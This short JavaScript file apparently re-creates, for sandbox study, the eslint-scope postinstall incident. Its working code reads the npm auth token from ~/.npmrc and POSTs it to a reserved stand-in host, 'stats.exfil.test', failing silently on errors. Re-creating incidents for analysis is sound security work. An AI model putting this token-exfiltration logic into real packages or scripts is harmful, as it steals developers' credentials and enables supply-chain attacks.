// Incident re-creation (eslint-scope 3.7.2): a postinstall script sends ~/.npmrc's token away.
// Defanged: the host name is reserved (.test) and only the sandbox's sink ever answers.
const fs = require('fs');
const http = require('http');
let npmrc = '';
try { npmrc = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8'); } catch (e) {}
const req = http.request({ host: 'stats.exfil.test', path: '/collect', method: 'POST', timeout: 2000 }, (res) => { res.resume(); res.on('end', () => process.exit(0)); });
req.on('error', () => process.exit(0));
req.end(npmrc);
